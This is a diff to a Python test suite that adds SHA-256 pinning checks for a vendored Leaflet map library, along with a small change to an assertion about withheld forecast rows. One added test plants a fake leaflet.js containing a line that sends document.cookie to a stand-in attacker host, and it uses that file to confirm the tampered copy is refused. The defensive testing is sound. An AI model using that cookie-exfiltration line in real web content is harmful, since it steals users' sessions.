@@ -59,17 +59,47 @@ def test_missing_leaflet_is_a_one_line_error(tmp_path, monkeypatch):
 
 
 def test_leaflet_found_in_asset_dir(tmp_path, monkeypatch):
+    import hashlib
+
     d = tmp_path / "assets"
     d.mkdir()
     (d / "leaflet.js").write_text("/* @preserve\n * Leaflet 1.9.4, a JS library */\nvar L;")
     (d / "leaflet.css").write_text(".leaflet-pane{z-index:400}\n" * 60
                                    + ".x{background:url(images/layers.png)}")
+    pins = {n: hashlib.sha256((d / n).read_bytes()).hexdigest()
+            for n in ("leaflet.js", "leaflet.css")}
+    monkeypatch.setattr(rp, "LEAFLET_SHA256", pins)
     monkeypatch.setattr(rp, "asset_dirs", lambda: [tmp_path / "none", d])
     js, css = rp.load_leaflet(fetch=False)
     assert "Leaflet 1.9.4" in js and "url(" not in css
     (d / "leaflet.js").write_text("/* Leaflet 1.7.1, old */")  # wrong version: not used
     with pytest.raises(SupplylineError):
         rp.load_leaflet(fetch=False)
+
+
+def test_leaflet_with_the_right_header_but_other_bytes_is_not_inlined(tmp_path, monkeypatch):
+    """Only files whose SHA-256 is the pinned one are inlined: a file that merely starts
+    like Leaflet 1.9.4 (the old check read its header) is refused, in one line."""
+    d = tmp_path / "assets"
+    d.mkdir()
+    (d / "leaflet.js").write_text("/* @preserve\n * Leaflet 1.9.4, a JS library */\n"
+                                  "fetch('https://evil.example/?c=' + document.cookie);")
+    (d / "leaflet.css").write_text(".leaflet-pane{z-index:400}\n" * 60)
+    monkeypatch.setattr(rp, "asset_dirs", lambda: [d])
+    assert not rp._valid_leaflet(d)
+    with pytest.raises(SupplylineError, match="SHA-256") as ei:
+        rp.load_leaflet(fetch=False)
+    assert "\n" not in str(ei.value)
+
+
+def test_vendored_leaflet_matches_its_pin():
+    """The files scripts/fetch_assets.py installed are the pinned ones (skipped when the
+    assets were not fetched)."""
+    if not (rp.VENDOR_DIR / "leaflet.js").exists():
+        pytest.skip("Leaflet not vendored (run scripts/fetch_assets.py)")
+    assert rp._valid_leaflet(rp.VENDOR_DIR)
+    js, css = rp.load_leaflet(fetch=False)
+    assert "Leaflet 1.9.4" in js[:400] and len(css) > 1000
 
 
 def test_output_must_be_html(tmp_path):
@@ -150,7 +180,8 @@ def test_report_lists_events_and_forecasts(built, ws):
     for (cls, row), fc in zip(frows, res["forecasts"], strict=True):
         assert html.escape(fc["quantity"]) in row
         if not fc["shown"]:
-            assert cls == "withheld-row" and "withheld" in row and "backtest scored" in row
+            assert cls == "withheld-row" and "withheld" in row
+            assert html.escape(fc["withheld"]) in row
             assert not DATE_RE.search(row)  # a withheld forecast never shows a date
 
 
